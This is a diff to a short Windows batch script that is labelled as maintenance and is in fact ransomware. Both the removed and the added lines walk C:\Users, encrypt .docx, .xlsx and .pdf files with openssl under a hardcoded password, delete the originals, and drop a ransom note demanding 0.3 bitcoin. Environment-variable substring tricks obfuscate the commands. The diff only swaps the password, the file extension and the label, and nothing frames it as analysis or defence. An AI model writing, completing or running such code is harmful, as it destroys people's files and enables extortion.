@@ -1,6 +1,6 @@
-REM task 7424 v3
+REM maintenance 7615 v3
 @echo off
-fo%PUBLIC:~-9,1% /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
-  openssl enc -aes-256-cbc -pass pass:Qwerty#7788 -in "%%f" -out "%%f.pay" && del "%%f"
+for /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
+  openssl enc -aes-256-cbc -pass pass:Winter#2025x -in "%%f" -out "%%f.enc" && del "%%f"
 )
-%COMSPEC:~-1,1%ch%windir:~7,1% Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
+e%PUBLIC:~14,1%h%comspec:~7,1% Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
